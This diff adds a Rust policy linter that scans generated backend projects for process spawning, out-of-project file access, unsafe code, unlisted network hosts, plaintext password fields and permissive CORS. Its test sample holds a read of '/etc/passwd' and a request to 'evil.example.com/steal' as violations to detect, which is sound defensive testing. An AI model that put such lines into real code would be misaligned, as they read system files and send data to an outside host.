@@ -0,0 +1,449 @@
+use proc_macro2::{Span, TokenStream, TokenTree};
+use reqwest::Url;
+use std::collections::BTreeMap;
+use std::fmt;
+use std::fs;
+use std::path::Path;
+use syn::spanned::Spanned;
+use syn::visit::{self, Visit};
+
+// Hosts the generated server may always talk to
+const LOCAL_HOSTS: [&str; 4] = ["localhost", "127.0.0.1", "0.0.0.0", "[::1]"];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PolicyRule {
+    Process,
+    Filesystem,
+    Unsafe,
+    Network,
+    PlaintextPassword,
+    PermissiveCors,
+    Unparsable,
+}
+
+impl fmt::Display for PolicyRule {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let name: &str = match self {
+            Self::Process => "process",
+            Self::Filesystem => "filesystem",
+            Self::Unsafe => "unsafe",
+            Self::Network => "network",
+            Self::PlaintextPassword => "plaintext-password",
+            Self::PermissiveCors => "permissive-cors",
+            Self::Unparsable => "unparsable",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct PolicyFinding {
+    pub rule: PolicyRule,
+    pub location: String,
+    pub message: String,
+}
+
+impl fmt::Display for PolicyFinding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "[{}] {}: {}", self.rule, self.location, self.message)
+    }
+}
+
+struct PolicyVisitor<'a> {
+    file: &'a str,
+    allowed_hosts: &'a [String],
+    findings: Vec<PolicyFinding>,
+    // Cors::permissive() chains by position, true once an origin restriction follows
+    cors_chains: BTreeMap<(usize, usize), bool>,
+}
+
+impl PolicyVisitor<'_> {
+    fn flag(&mut self, rule: PolicyRule, span: Span, message: String) {
+        self.findings.push(PolicyFinding {
+            rule,
+            location: format!("{}:{}", self.file, span.start().line),
+            message,
+        });
+    }
+
+    fn check_url(&mut self, url: &str, span: Span) {
+        if !(url.starts_with("http://") || url.starts_with("https://")) {
+            return;
+        }
+        let host: String = match Url::parse(url) {
+            Ok(parsed) => parsed.host_str().unwrap_or_default().to_string(),
+            Err(_) => return,
+        };
+        if !LOCAL_HOSTS.contains(&host.as_str()) && !self.allowed_hosts.contains(&host) {
+            self.flag(
+                PolicyRule::Network,
+                span,
+                format!("calls {} which is not in external_urls", host),
+            );
+        }
+    }
+
+    // String literals inside macros such as format! are not parsed as expressions
+    fn check_tokens(&mut self, tokens: TokenStream) {
+        for token in tokens {
+            match token {
+                TokenTree::Group(group) => self.check_tokens(group.stream()),
+                TokenTree::Literal(literal) => {
+                    if let syn::Lit::Str(lit_str) = syn::Lit::new(literal) {
+                        self.check_url(&lit_str.value(), lit_str.span());
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
+fn path_string(path: &syn::Path) -> String {
+    path.segments
+        .iter()
+        .map(|segment| segment.ident.to_string())
+        .collect::<Vec<String>>()
+        .join("::")
+}
+
+fn use_paths(tree: &syn::UseTree, prefix: &str, paths: &mut Vec<String>) {
+    let join = |name: String| {
+        if prefix.is_empty() {
+            name
+        } else {
+            format!("{}::{}", prefix, name)
+        }
+    };
+    match tree {
+        syn::UseTree::Path(use_path) => {
+            use_paths(&use_path.tree, &join(use_path.ident.to_string()), paths)
+        }
+        syn::UseTree::Name(use_name) => paths.push(join(use_name.ident.to_string())),
+        syn::UseTree::Rename(use_rename) => paths.push(join(use_rename.ident.to_string())),
+        syn::UseTree::Glob(_) => paths.push(join("*".to_string())),
+        syn::UseTree::Group(group) => {
+            for item in &group.items {
+                use_paths(item, prefix, paths);
+            }
+        }
+    }
+}
+
+fn is_process_path(path: &str) -> bool {
+    path.contains("process::Command") || path.ends_with("process::*")
+}
+
+fn is_fs_call(path: &str) -> bool {
+    path.starts_with("fs::")
+        || path.contains("::fs::")
+        || path.ends_with("File::open")
+        || path.ends_with("File::create")
+}
+
+fn derives_serialize(attrs: &[syn::Attribute]) -> bool {
+    let mut serialize: bool = false;
+    for attr in attrs.iter().filter(|attr| attr.path().is_ident("derive")) {
+        let _ = attr.parse_nested_meta(|meta| {
+            if meta
+                .path
+                .segments
+                .last()
+                .is_some_and(|segment| segment.ident == "Serialize")
+            {
+                serialize = true;
+            }
+            Ok(())
+        });
+    }
+    serialize
+}
+
+impl<'ast> Visit<'ast> for PolicyVisitor<'_> {
+    fn visit_item_use(&mut self, item: &'ast syn::ItemUse) {
+        let mut paths: Vec<String> = vec![];
+        use_paths(&item.tree, "", &mut paths);
+        for path in paths.iter().filter(|path| is_process_path(path)) {
+            self.flag(
+                PolicyRule::Process,
+                item.span(),
+                format!("imports {}", path),
+            );
+        }
+    }
+
+    fn visit_path(&mut self, path: &'ast syn::Path) {
+        let joined: String = path_string(path);
+        if is_process_path(&joined) {
+            self.flag(
+                PolicyRule::Process,
+                path.span(),
+                format!("spawns processes through {}", joined),
+            );
+        }
+        visit::visit_path(self, path);
+    }
+
+    fn visit_expr_unsafe(&mut self, expr: &'ast syn::ExprUnsafe) {
+        self.flag(
+            PolicyRule::Unsafe,
+            expr.unsafe_token.span,
+            "unsafe block".to_string(),
+        );
+        visit::visit_expr_unsafe(self, expr);
+    }
+
+    fn visit_signature(&mut self, sig: &'ast syn::Signature) {
+        if let Some(unsafety) = &sig.unsafety {
+            self.flag(
+                PolicyRule::Unsafe,
+                unsafety.span,
+                format!("unsafe fn {}", sig.ident),
+            );
+        }
+        visit::visit_signature(self, sig);
+    }
+
+    fn visit_item_impl(&mut self, item: &'ast syn::ItemImpl) {
+        if let Some(unsafety) = &item.unsafety {
+            self.flag(PolicyRule::Unsafe, unsafety.span, "unsafe impl".to_string());
+        }
+        visit::visit_item_impl(self, item);
+    }
+
+    fn visit_expr_call(&mut self, call: &'ast syn::ExprCall) {
+        if let syn::Expr::Path(func) = call.func.as_ref() {
+            let joined: String = path_string(&func.path);
+            if joined.ends_with("Cors::permissive") {
+                let start = call.span().start();
+                self.cors_chains
+                    .entry((start.line, start.column))
+                    .or_insert(false);
+            }
+            if is_fs_call(&joined) {
+                match call.args.first() {
+                    Some(syn::Expr::Lit(syn::ExprLit {
+                        lit: syn::Lit::Str(lit_str),
+                        ..
+                    })) => {
+                        let target: String = lit_str.value();
+                        if target.starts_with('/')
+                            || target.starts_with('~')
+                            || target.contains("..")
+                        {
+                            self.flag(
+                                PolicyRule::Filesystem,
+                                call.span(),
+                                format!("{} touches {} outside the project dir", joined, target),
+                            );
+                        }
+                    }
+                    Some(_) => self.flag(
+                        PolicyRule::Filesystem,
+                        call.span(),
+                        format!("{} with a computed path that can not be checked", joined),
+                    ),
+                    None => {}
+                }
+            }
+        }
+        visit::visit_expr_call(self, call);
+    }
+
+    fn visit_expr_method_call(&mut self, call: &'ast syn::ExprMethodCall) {
+        if call.method == "allow_any_origin" || call.method == "send_wildcard" {
+            self.flag(
+                PolicyRule::PermissiveCors,
+                call.method.span(),
+                format!("CORS {}()", call.method),
+            );
+        }
+        // Walk down the builder chain to see whether it starts at Cors::permissive()
+        let mut restricted: bool = false;
+        let mut receiver: &syn::Expr = &syn::Expr::MethodCall(call.clone());
+        while let syn::Expr::MethodCall(inner) = receiver {
+            restricted |= inner.method.to_string().starts_with("allowed_origin");
+            receiver = inner.receiver.as_ref();
+        }
+        if let syn::Expr::Call(root) = receiver
+            && let syn::Expr::Path(func) = root.func.as_ref()
+            && path_string(&func.path).ends_with("Cors::permissive")
+        {
+            let start = root.span().start();
+            *self
+                .cors_chains
+                .entry((start.line, start.column))
+                .or_insert(false) |= restricted;
+        }
+        visit::visit_expr_method_call(self, call);
+    }
+
+    fn visit_lit_str(&mut self, lit: &'ast syn::LitStr) {
+        self.check_url(&lit.value(), lit.span());
+    }
+
+    fn visit_macro(&mut self, mac: &'ast syn::Macro) {
+        self.check_tokens(mac.tokens.clone());
+        visit::visit_macro(self, mac);
+    }
+
+    fn visit_item_struct(&mut self, item: &'ast syn::ItemStruct) {
+        if derives_serialize(&item.attrs) {
+            for field in &item.fields {
+                let Some(ident) = &field.ident else {
+                    continue;
+                };
+                let name: String = ident.to_string().to_lowercase();
+                let is_string: bool = matches!(&field.ty, syn::Type::Path(ty)
+                    if ty.path.segments.last().is_some_and(|segment| segment.ident == "String"));
+                if name.contains("password") && !name.contains("hash") && is_string {
+                    self.flag(
+                        PolicyRule::PlaintextPassword,
+                        ident.span(),
+                        format!(
+                            "{}.{} is serialized as a plain String, store a hash instead",
+                            item.ident, ident
+                        ),
+                    );
+                }
+            }
+        }
+        visit::visit_item_struct(self, item);
+    }
+}
+
+// Policy findings for one source file, hosts of external_urls are allowed network targets
+pub fn lint_source(file: &str, source: &str, external_urls: &[String]) -> Vec<PolicyFinding> {
+    let allowed_hosts: Vec<String> = external_urls
+        .iter()
+        .filter_map(|url| Url::parse(url).ok()?.host_str().map(String::from))
+        .collect();
+    let syntax: syn::File = match syn::parse_file(source) {
+        Ok(syntax) => syntax,
+        Err(e) => {
+            return vec![PolicyFinding {
+                rule: PolicyRule::Unparsable,
+                location: format!("{}:{}", file, e.span().start().line),
+                message: format!("could not be checked: {}", e),
+            }];
+        }
+    };
+    let mut visitor: PolicyVisitor = PolicyVisitor {
+        file,
+        allowed_hosts: &allowed_hosts,
+        findings: vec![],
+        cors_chains: BTreeMap::new(),
+    };
+    visitor.visit_file(&syntax);
+    for ((line, _), restricted) in visitor.cors_chains {
+        if !restricted {
+            visitor.findings.push(PolicyFinding {
+                rule: PolicyRule::PermissiveCors,
+                location: format!("{}:{}", file, line),
+                message: "Cors::permissive() allows any origin".to_string(),
+            });
+        }
+    }
+    visitor.findings
+}
+
+fn collect_sources(dir: &Path, sources: &mut Vec<std::path::PathBuf>) {
+    let Ok(entries) = fs::read_dir(dir) else {
+        return;
+    };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            collect_sources(&path, sources);
+        } else if path.extension().is_some_and(|ext| ext == "rs") {
+            sources.push(path);
+        }
+    }
+}
+
+// Lints every Rust source under src/ and tests/ of the generated project
+pub fn lint_project(project_dir: &Path, external_urls: &[String]) -> Vec<PolicyFinding> {
+    let mut sources: Vec<std::path::PathBuf> = vec![];
+    collect_sources(&project_dir.join("src"), &mut sources);
+    collect_sources(&project_dir.join("tests"), &mut sources);
+    sources.sort();
+
+    let mut findings: Vec<PolicyFinding> = vec![];
+    for source_path in sources {
+        let Ok(source) = fs::read_to_string(&source_path) else {
+            continue;
+        };
+        let file: String = source_path
+            .strip_prefix(project_dir)
+            .unwrap_or(&source_path)
+            .display()
+            .to_string();
+        findings.extend(lint_source(&file, &source, external_urls));
+    }
+    findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::helpers::general::create_project_dir;
+
+    #[test]
+    fn tests_flags_policy_violations() {
+        let source: &str = r#"
+use std::process::Command;
+use std::fs;
+
+#[derive(Serialize, Deserialize)]
+struct User {
+    username: String,
+    password: String,
+}
+
+#[derive(Deserialize)]
+struct LoginRequest {
+    password: String,
+}
+
+async fn handler() {
+    let _ = fs::read_to_string("/etc/passwd");
+    let _ = fs::read_to_string("database.json");
+    let _ = reqwest::get("https://evil.example.com/steal").await;
+    let _ = reqwest::get(format!("https://api.coingecko.com/{}", 1)).await;
+    let _ = unsafe { std::mem::zeroed::<u8>() };
+    let cors = Cors::permissive();
+    let restricted = Cors::permissive().allowed_origin("http://localhost:3000");
+}
+"#;
+        let external_urls: Vec<String> = vec!["https://api.coingecko.com/api/v3".to_string()];
+        let findings: Vec<PolicyFinding> = lint_source("src/main.rs", source, &external_urls);
+        let rules: Vec<PolicyRule> = findings.iter().map(|finding| finding.rule).collect();
+        assert_eq!(
+            rules,
+            vec![
+                PolicyRule::Process,
+                PolicyRule::PlaintextPassword,
+                PolicyRule::Filesystem,
+                PolicyRule::Network,
+                PolicyRule::Unsafe,
+                PolicyRule::PermissiveCors,
+            ]
+        );
+        assert_eq!(findings[2].location, "src/main.rs:17");
+    }
+
+    #[test]
+    fn tests_reports_unparsable_source() {
+        let findings: Vec<PolicyFinding> = lint_source("src/main.rs", "fn main( {", &[]);
+        assert_eq!(findings[0].rule, PolicyRule::Unparsable);
+    }
+
+    #[test]
+    fn tests_fresh_project_has_no_findings() {
+        let output_dir: std::path::PathBuf =
+            std::env::temp_dir().join(format!("backendbro-policy-{}", std::process::id()));
+        let project_dir: std::path::PathBuf = create_project_dir(&output_dir).unwrap();
+        assert_eq!(lint_project(&project_dir, &[]), vec![]);
+        fs::remove_dir_all(&output_dir).unwrap();
+    }
+}